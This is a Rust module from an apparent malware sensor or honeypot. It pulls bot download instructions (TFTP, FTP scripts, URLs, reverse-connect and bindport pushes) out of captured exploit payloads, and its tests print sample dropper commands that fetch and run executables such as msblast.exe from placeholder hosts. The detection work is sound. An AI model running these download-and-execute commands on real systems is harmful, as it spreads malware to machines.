//! Download instructions found in exploit payloads.
//!
//! Bots of the study's era carried a shell command after the exploit that
//! told the victim where to fetch the bot: `tftp -i HOST GET FILE`, an FTP
//! script built with `echo open HOST PORT > o&echo user ...`, an HTTP or FTP
//! URL, or a "connect back to me on port N" push. This module finds them in
//! raw payload bytes. It is a pure function: no I/O, bounded work.

use crate::shellcode::{shellcode_downloads, ShellcodeWork};
use serde::Serialize;
use std::net::Ipv4Addr;

/// How the payload asks the victim to obtain the binary.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
#[serde(tag = "method", rename_all = "snake_case")]
pub enum DownloadInstruction {
    /// `tftp -i HOST GET FILE`.
    Tftp {
        /// Server named in the command.
        host: String,
        /// File to fetch.
        file: String,
    },
    /// An FTP script: `echo open HOST PORT`, `user U P`, `get FILE`.
    Ftp {
        /// Server.
        host: String,
        /// Control port (21 when absent).
        port: u16,
        /// User name, when the script gives one.
        user: Option<String>,
        /// Password, when the script gives one.
        password: Option<String>,
        /// File to fetch.
        file: String,
    },
    /// `http://HOST[:PORT]/PATH`.
    Http {
        /// Server.
        host: String,
        /// Port.
        port: u16,
        /// Path with query.
        path: String,
    },
    /// `ftp://[user:pass@]HOST[:PORT]/PATH`.
    FtpUrl {
        /// Server.
        host: String,
        /// Port.
        port: u16,
        /// User name.
        user: Option<String>,
        /// Password.
        password: Option<String>,
        /// Path.
        path: String,
    },
    /// Reverse connection: the victim is told to connect back to the
    /// attacker on a port ("connect to me on port N") and receives the
    /// binary there. The sensor connects and reads until close.
    Push {
        /// Port on the attacker.
        port: u16,
    },
    /// TCP push from the infector: the payload opens a port on the victim
    /// ("bindport N", "bind shell on port N") and the attacker connects to
    /// it and sends the binary. The sensor listens there for the attacker.
    BindPort {
        /// Port the sensor opens.
        port: u16,
    },
}

impl DownloadInstruction {
    /// The host the instruction points at (`None` for a push, which always
    /// goes to the attacker).
    pub fn host(&self) -> Option<&str> {
        match self {
            DownloadInstruction::Tftp { host, .. }
            | DownloadInstruction::Ftp { host, .. }
            | DownloadInstruction::Http { host, .. }
            | DownloadInstruction::FtpUrl { host, .. } => Some(host),
            DownloadInstruction::Push { .. } | DownloadInstruction::BindPort { .. } => None,
        }
    }

    /// Short name of the transfer protocol (`tftp`, `ftp`, `http`,
    /// `reverse`, `bindport`).
    pub fn method(&self) -> &'static str {
        match self {
            DownloadInstruction::Tftp { .. } => "tftp",
            DownloadInstruction::Ftp { .. } | DownloadInstruction::FtpUrl { .. } => "ftp",
            DownloadInstruction::Http { .. } => "http",
            DownloadInstruction::Push { .. } => "reverse",
            DownloadInstruction::BindPort { .. } => "bindport",
        }
    }

    /// The study's Table 8 copy method: `tftp_get` (the victim fetches from
    /// the infector by TFTP), `tcp_push` (the infector connects and sends),
    /// `reverse_connect` (the victim connects back to the infector). FTP
    /// and HTTP fetches from the infector count as reverse connections: the
    /// victim opens the connection.
    pub fn copy_method(&self) -> &'static str {
        match self {
            DownloadInstruction::Tftp { .. } => "tftp_get",
            DownloadInstruction::BindPort { .. } => "tcp_push",
            _ => "reverse_connect",
        }
    }
}

/// At most this many payload bytes are searched.
pub const MAX_SCAN: usize = 1 << 20;
/// At most this many instructions are returned per payload.
pub const MAX_INSTRUCTIONS: usize = 16;
/// A command (a `tftp` line, a URL, an FTP script) is read from its
/// keyword up to the end of its line and at most this many bytes: the
/// work per keyword is bounded, so a payload of repeated keywords costs
/// time linear in its size.
pub const MAX_LINE: usize = 1024;

/// How much work an instruction search did: what the search-cost tests
/// and the fuzz targets hold linear in the payload size.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct ScanWork {
    /// Bytes read: each pass over the text plus every window handed to a
    /// parser (the most a parser may look at).
    pub bytes_scanned: u64,
    /// Keyword matches handed to a parser.
    pub parses: u64,
    /// The shellcode search's work (bodies decoded for the commands they
    /// carry), counted apart: it has its own bounds
    /// ([`crate::shellcode::find_shellcode_with_work`]).
    pub shellcode: ShellcodeWork,
}

/// Finds every download instruction in `payload`, in the order they appear
/// (at most [`MAX_INSTRUCTIONS`], duplicates dropped).
///
/// Payloads carry commands as ASCII or, inside DCE-RPC strings, as
/// UTF-16LE; both readings are searched. The work is linear in the
/// payload: see [`find_instructions_with_work`].
pub fn find_instructions(payload: &[u8]) -> Vec<DownloadInstruction> {
    find_instructions_with_work(payload).0
}

/// [`find_instructions`], also saying how much work it did.
///
/// Besides the payload's own text, the commands carried inside encoded
/// shellcode are included: the bodies [`crate::shellcode`] decodes are
/// searched the same way, and what they add comes after the payload's
/// own instructions (each instruction once, at most
/// [`MAX_INSTRUCTIONS`] in all).
pub fn find_instructions_with_work(payload: &[u8]) -> (Vec<DownloadInstruction>, ScanWork) {
    let (mut found, mut work) = find_text_instructions_with_work(payload);
    if found.len() < MAX_INSTRUCTIONS {
        let (decoded, sc_work) = shellcode_downloads(payload);
        work.shellcode = sc_work;
        for i in decoded {
            if found.len() == MAX_INSTRUCTIONS {
                break;
            }
            if !found.contains(&i) {
                found.push(i);
            }
        }
    }
    (found, work)
}

/// The payload's own text only (ASCII and UTF-16LE), no shellcode
/// decoding: what the shellcode module runs on decoded bodies.
pub(crate) fn find_text_instructions_with_work(
    payload: &[u8],
) -> (Vec<DownloadInstruction>, ScanWork) {
    let mut work = ScanWork::default();
    let payload = &payload[..payload.len().min(MAX_SCAN)];
    let printable = |b: u8| {
        if (0x20..0x7f).contains(&b) {
            b as char
        } else {
            '\n'
        }
    };
    let ascii: String = payload.iter().map(|&b| printable(b)).collect();
    // UTF-16LE text: drop the zero high bytes, keep everything else.
    let wide: String = payload
        .iter()
        .filter(|&&b| b != 0)
        .map(|&b| printable(b))
        .collect();
    work.bytes_scanned += 2 * payload.len() as u64;
    let mut found = scan_text(&ascii, &mut work);
    for i in scan_text(&wide, &mut work) {
        if !found.contains(&i) {
            found.push(i);
        }
    }
    found.truncate(MAX_INSTRUCTIONS);
    (found, work)
}

/// The text after a keyword that a parser may read: up to the end of the
/// line and at most `max` bytes. `cut` says the line went on.
struct Window<'a> {
    text: &'a str,
    lower: &'a str,
    cut: bool,
    /// Where the first URL terminator is, relative to the window (its
    /// length if none), when the key is a URL scheme.
    url_end: usize,
    /// Bytes the parser read (the whole window unless it says less).
    read: std::cell::Cell<usize>,
}

/// Whether `part` (a slice of `w`) runs to a cut end of the window: then
/// it may be longer than what was read, and is not trusted.
fn runs_off(w: &Window, part: &str) -> bool {
    w.cut && offset_end(w, part) == w.text.len()
}

/// Where `part` (a slice of `w`) ends, relative to the window.
fn offset_end(w: &Window, part: &str) -> usize {
    part.as_ptr() as usize - w.text.as_ptr() as usize + part.len()
}

/// The next position at or after `at` where `pred` holds, remembered:
/// keyword matches come in order, so each byte is searched once per key.
struct NextOf {
    pos: Option<usize>,
}

impl NextOf {
    fn find(
        &mut self,
        bytes: &[u8],
        at: usize,
        pred: impl Fn(u8) -> bool,
        work: &mut ScanWork,
    ) -> usize {
        match self.pos {
            Some(p) if p >= at => p,
            _ => {
                let p = bytes[at..]
                    .iter()
                    .position(|&b| pred(b))
                    .map_or(bytes.len(), |i| at + i);
                work.bytes_scanned += (p - at) as u64;
                self.pos = Some(p);
                p
            }
        }
    }
}

fn is_url_end(b: u8) -> bool {
    b.is_ascii_whitespace() || b == b'"' || b == b'\'' || b == b'<' || b == b'>'
}

/// Collects, for one keyword, the instructions `parse` finds at its
/// matches, stopping at [`MAX_INSTRUCTIONS`] distinct ones.
#[allow(clippy::too_many_arguments)]
fn scan_key(
    text: &str,
    lower: &str,
    key: &str,
    max: usize,
    url: bool,
    work: &mut ScanWork,
    found: &mut Vec<(usize, DownloadInstruction)>,
    parse: impl Fn(&Window) -> Option<DownloadInstruction>,
) {
    work.bytes_scanned += text.len() as u64;
    let bytes = text.as_bytes();
    let (mut newline, mut term) = (NextOf { pos: None }, NextOf { pos: None });
    let mut distinct = 0;
    for (at, _) in lower.match_indices(key) {
        let nl = newline.find(bytes, at, |b| b == b'\n', work);
        let end = nl.min(at + max);
        let url_end = if url {
            term.find(bytes, at + key.len(), is_url_end, work).min(end) - at
        } else {
            end - at
        };
        let w = Window {
            text: &text[at..end],
            lower: &lower[at..end],
            cut: end < nl,
            url_end,
            read: std::cell::Cell::new(end - at),
        };
        let got = parse(&w);
        work.parses += 1;
        work.bytes_scanned += w.read.get() as u64;
        if let Some(i) = got {
            if !found.iter().any(|(_, f)| *f == i) {
                found.push((at, i));
                distinct += 1;
                if distinct == MAX_INSTRUCTIONS {
                    break;
                }
            }
        }
    }
}

fn scan_text(text: &str, work: &mut ScanWork) -> Vec<DownloadInstruction> {
    let lower = text.to_ascii_lowercase();
    work.bytes_scanned += text.len() as u64;
    let mut found: Vec<(usize, DownloadInstruction)> = Vec::new();
    let f = &mut found;
    scan_key(text, &lower, "tftp", MAX_LINE, false, work, f, parse_tftp);
    scan_key(
        text,
        &lower,
        "echo open ",
        MAX_LINE,
        false,
        work,
        f,
        parse_ftp_script,
    );
    scan_key(text, &lower, "http://", MAX_LINE, true, work, f, |w| {
        parse_http_url(w, &w.text[7..w.url_end])
    });
    scan_key(text, &lower, "ftp://", MAX_LINE, true, work, f, |w| {
        parse_ftp_url(w, &w.text[6..w.url_end])
    });
    for key in ["connect to me on port ", "connect back on port "] {
        scan_key(
            text,
            &lower,
            key,
            key.len() + 6,
            false,
            work,
            &mut found,
            |w| {
                leading_port(w, &w.text[key.len()..]).map(|port| DownloadInstruction::Push { port })
            },
        );
    }
    for key in ["bindport ", "bind shell on port "] {
        scan_key(
            text,
            &lower,
            key,
            key.len() + 6,
            false,
            work,
            &mut found,
            |w| {
                leading_port(w, &w.text[key.len()..])
                    .map(|port| DownloadInstruction::BindPort { port })
            },
        );
    }
    found.sort_by_key(|(at, _)| *at);
    found.into_iter().map(|(_, i)| i).collect()
}

fn is_sep(c: char) -> bool {
    c.is_whitespace() || c == '&' || c == '|' || c == '>' || c == ';'
}

fn tokens(s: &str) -> impl Iterator<Item = &str> {
    s.split(is_sep).filter(|t| !t.is_empty())
}

/// `tftp[.exe] -i HOST get FILE` (flags and case vary).
fn parse_tftp(w: &Window) -> Option<DownloadInstruction> {
    // The keyword must start a word of its own: `tftp` or `tftp.exe`.
    let head = &w.text[..w.text.len().min("tftp.exe".len() + 1)];
    w.read.set(head.len());
    let first_end = head.find(is_sep).unwrap_or(head.len());
    let first = &w.lower[..first_end];
    if first != "tftp" && first != "tftp.exe" {
        return None;
    }
    w.read.set(first_end);
    let mut rest: Vec<&str> = tokens(&w.text[first_end..]).take(7).collect();
    if let Some(last) = rest.last() {
        w.read.set(offset_end(w, last) + 1);
    }
    rest.retain(|t| !t.starts_with('-'));
    let get = rest.iter().position(|t| t.eq_ignore_ascii_case("get"))?;
    if get == 0 {
        return None;
    }
    let host = valid_host(rest[get - 1])?;
    let file = rest.get(get + 1)?;
    if runs_off(w, file) {
        return None;
    }
    Some(DownloadInstruction::Tftp {
        host,
        file: file.trim_matches('"').to_string(),
    })
}

/// `echo open HOST PORT > o&echo user U P >> o&echo binary >> o&echo get FILE >> o...`
fn parse_ftp_script(w: &Window) -> Option<DownloadInstruction> {
    let (window, lwindow) = (w.text, w.lower);
    let mut after_open = tokens(&window["echo open ".len()..]);
    let host = valid_host(after_open.next()?)?;
    let port = after_open
        .next()
        .and_then(|p| p.parse::<u16>().ok())
        .unwrap_or(21);
    // Each `echo` command runs to the next one: every byte of the window
    // is tokenised once.
    let echoes: Vec<usize> = lwindow.match_indices("echo ").map(|(at, _)| at).collect();
    let command = |k: usize| -> &str {
        let end = echoes.get(k + 1).copied().unwrap_or(window.len());
        &window[echoes[k] + 5..end]
    };
    let (mut user, mut password, mut file) = (None, None, None);
    for k in 0..echoes.len() {
        let mut words = tokens(command(k));
        match words.next().map(|w| w.to_ascii_lowercase()).as_deref() {
            Some("user") => {
                user = words.next().map(str::to_string);
                password = words.next().map(str::to_string);
            }
            Some("get") | Some("recv") => {
                file = file.or_else(|| words.next().map(str::to_string));
            }
            Some(w) if user.is_none() && w != "open" && w != "binary" && w != "bye" => {
                // Scripts often give the user name as a bare line, and
                // the password as the next.
                user = Some(command(k)[..w.len()].to_string());
                if let Some(p) = (k + 1 < echoes.len())
                    .then(|| tokens(command(k + 1)).next())
                    .flatten()
                {
                    let lp = p.to_ascii_lowercase();
                    if lp != "get" && lp != "binary" && lp != "bye" && lp != "user" {
                        password = Some(p.to_string());
                    }
                }
            }
            _ => {}
        }
    }
    Some(DownloadInstruction::Ftp {
        host,
        port,
        user,
        password,
        file: file?,
    })
}

fn split_host_port(authority: &str, default: u16) -> Option<(String, u16)> {
    match authority.rsplit_once(':') {
        Some((h, p)) => Some((valid_host(h)?, p.parse().ok()?)),
        None => Some((valid_host(authority)?, default)),
    }
}

fn parse_http_url(w: &Window, url: &str) -> Option<DownloadInstruction> {
    // The URL's end is known (found once per key): one running off the
    // window is dropped unread; otherwise the authority is read, and the
    // path only when the host is good.
    w.read.set(7);
    if runs_off(w, url) {
        return None;
    }
    let (authority, path) = match url.find('/') {
        Some(i) => (&url[..i], &url[i..]),
        None => (url, "/"),
    };
    w.read.set(7 + authority.len() + 1);
    let (host, port) = split_host_port(authority, 80)?;
    w.read.set(w.url_end);
    Some(DownloadInstruction::Http {
        host,
        port,
        path: path.to_string(),
    })
}

fn parse_ftp_url(w: &Window, url: &str) -> Option<DownloadInstruction> {
    w.read.set(6);
    if runs_off(w, url) {
        return None;
    }
    let (authority, path) = url.split_once('/')?;
    w.read.set(6 + authority.len() + 1);
    let (creds, hostport) = match authority.rsplit_once('@') {
        Some((c, h)) => (Some(c), h),
        None => (None, authority),
    };
    let (user, password) = match creds.map(|c| c.split_once(':').unwrap_or((c, ""))) {
        Some((u, p)) => (Some(u.to_string()), Some(p.to_string())),
        None => (None, None),
    };
    let (host, port) = split_host_port(hostport, 21)?;
    w.read.set(w.url_end);
    Some(DownloadInstruction::FtpUrl {
        host,
        port,
        user,
        password,
        path: format!("/{path}"),
    })
}

fn leading_port(w: &Window, s: &str) -> Option<u16> {
    let digits = &s[..s.find(|c: char| !c.is_ascii_digit()).unwrap_or(s.len())];
    if runs_off(w, digits) {
        return None;
    }
    digits.parse().ok().filter(|p| *p != 0)
}

/// A host token: a dotted IPv4 address or a plausible DNS name.
fn valid_host(h: &str) -> Option<String> {
    let h = h.trim_matches(|c| c == '"' || c == '\'');
    if h.is_empty() || h.len() > 253 {
        return None;
    }
    if h.parse::<Ipv4Addr>().is_ok() {
        return Some(h.to_string());
    }
    let ok = h.contains('.')
        && h.split('.').all(|l| {
            !l.is_empty()
                && l.len() <= 63
                && l.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
        });
    ok.then(|| h.to_ascii_lowercase())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn finds_tftp_command_in_binary_payload() {
        let mut p = vec![0x90u8; 64];
        p.extend_from_slice(b"cmd /c tftp -i 192.0.2.7 GET msblast.exe&start msblast.exe\r\n");
        assert_eq!(
            find_instructions(&p),
            vec![DownloadInstruction::Tftp {
                host: "192.0.2.7".into(),
                file: "msblast.exe".into()
            }]
        );
    }

    #[test]
    fn finds_ftp_script() {
        let p = b"cmd /c echo open 198.51.100.9 6721 > o&echo user 1 1 >> o &echo get bot.exe >> o &echo bye >> o &ftp -n -v -s:o &del o &bot.exe";
        assert_eq!(
            find_instructions(p),
            vec![DownloadInstruction::Ftp {
                host: "198.51.100.9".into(),
                port: 6721,
                user: Some("1".into()),
                password: Some("1".into()),
                file: "bot.exe".into()
            }]
        );
    }

    #[test]
    fn finds_urls_and_push() {
        let p = b"GET x http://203.0.113.5:8080/a/b.exe ftp://u:p@203.0.113.6/x.exe connect to me on port 4444 bindport 5555";
        let got = find_instructions(p);
        assert_eq!(
            got,
            vec![
                DownloadInstruction::Http {
                    host: "203.0.113.5".into(),
                    port: 8080,
                    path: "/a/b.exe".into()
                },
                DownloadInstruction::FtpUrl {
                    host: "203.0.113.6".into(),
                    port: 21,
                    user: Some("u".into()),
                    password: Some("p".into()),
                    path: "/x.exe".into()
                },
                DownloadInstruction::Push { port: 4444 },
                DownloadInstruction::BindPort { port: 5555 },
            ]
        );
        assert_eq!(got[2].copy_method(), "reverse_connect");
        assert_eq!(got[3].copy_method(), "tcp_push");
    }

    #[test]
    fn finds_utf16_command() {
        let mut p = b"\x05\x00\x00\x03".to_vec();
        for c in "\\\\AAAA\\C$\\cmd /c tftp -i 192.0.2.7 GET a.exe".encode_utf16() {
            p.extend_from_slice(&c.to_le_bytes());
        }
        assert_eq!(
            find_instructions(&p),
            vec![DownloadInstruction::Tftp {
                host: "192.0.2.7".into(),
                file: "a.exe".into()
            }]
        );
    }

    /// Repeating a keyword used to make every match re-read (and
    /// lower-case) the rest of the line: quadratic. The work must be
    /// linear: 16 times the payload, at most 16 times the work.
    #[test]
    fn search_work_is_linear_in_payload_size() {
        let units: [&[u8]; 13] = [
            b"tftp",
            b"tftp ",
            b"tftp -i 10.0.0.1 get ",
            b"tftp -i 10.0.0.1 GET a.exe ",
            b"http://",
            b"http://a",
            b"ftp://",
            b"echo open 10.0.0.1 ",
            b"echo open 10.0.0.1 echo user ",
            b"echo ",
            b"connect to me on port 1",
            b"bindport 9",
            b"t\0f\0t\0p\0 \0",
        ];
        for unit in units {
            let work = |size: usize| {
                let p: Vec<u8> = unit.iter().cycle().take(size).copied().collect();
                find_instructions_with_work(&p).1
            };
            let (small, big) = (work(64 << 10), work(1 << 20));
            let name = String::from_utf8_lossy(unit);
            // Work per byte at 1 MiB within 5% of that at 64 KiB (windows
            // near the end of a payload are shorter: the edge costs less).
            assert!(
                big.bytes_scanned * 100 <= small.bytes_scanned * 16 * 105,
                "{name:?}: 64 KiB {small:?}, 1 MiB {big:?}"
            );
            assert!(big.parses <= 16 * small.parses + 32, "{name:?}");
            // And a fixed cost per byte: each keyword reads one bounded
            // window (an FTP script, 10 bytes of keyword, the most).
            let per_byte = (2 * (MAX_LINE / 10 + 24) + 2) as u64;
            assert!(
                big.bytes_scanned <= per_byte << 20,
                "{name:?}: {} bytes scanned for 1 MiB",
                big.bytes_scanned
            );
        }
    }

    #[test]
    fn repeats_are_capped_and_deduplicated() {
        let one: Vec<u8> = b"tftp -i 10.0.0.1 GET a.exe "
            .iter()
            .cycle()
            .take(MAX_SCAN)
            .copied()
            .collect();
        assert_eq!(
            find_instructions(&one),
            vec![DownloadInstruction::Tftp {
                host: "10.0.0.1".into(),
                file: "a.exe".into()
            }]
        );
        let mut many = Vec::new();
        for i in 0..1000 {
            many.extend_from_slice(format!("http://10.0.0.1/a{i}.exe ").as_bytes());
        }
        let got = find_instructions(&many);
        assert_eq!(got.len(), MAX_INSTRUCTIONS);
        assert_eq!(
            got[15],
            DownloadInstruction::Http {
                host: "10.0.0.1".into(),
                port: 80,
                path: "/a15.exe".into()
            }
        );
    }

    #[test]
    fn long_lines_are_read_up_to_the_window() {
        // A command after a megabyte-long printable line is still found.
        let mut p = vec![b'x'; 200_000];
        p.extend_from_slice(b" tftp -i 10.0.0.1 GET a.exe");
        assert_eq!(find_instructions(&p).len(), 1);
        // A URL longer than the window is not cut short and trusted.
        let mut p = b"http://10.0.0.1/".to_vec();
        p.extend(vec![b'a'; 2 * MAX_LINE]);
        assert!(find_instructions(&p).is_empty());
        // A port running past its window is not read as a shorter one.
        assert!(find_instructions(b"bindport 0044441").is_empty());
        assert_eq!(
            find_instructions(b"bindport 44441"),
            vec![DownloadInstruction::BindPort { port: 44441 }]
        );
    }

    #[test]
    fn ignores_garbage_and_bad_hosts() {
        assert!(find_instructions(b"tftp -i GET").is_empty());
        assert!(find_instructions(b"http://:99999/").is_empty());
        assert!(find_instructions(&vec![0xffu8; 4096]).is_empty());
    }
}
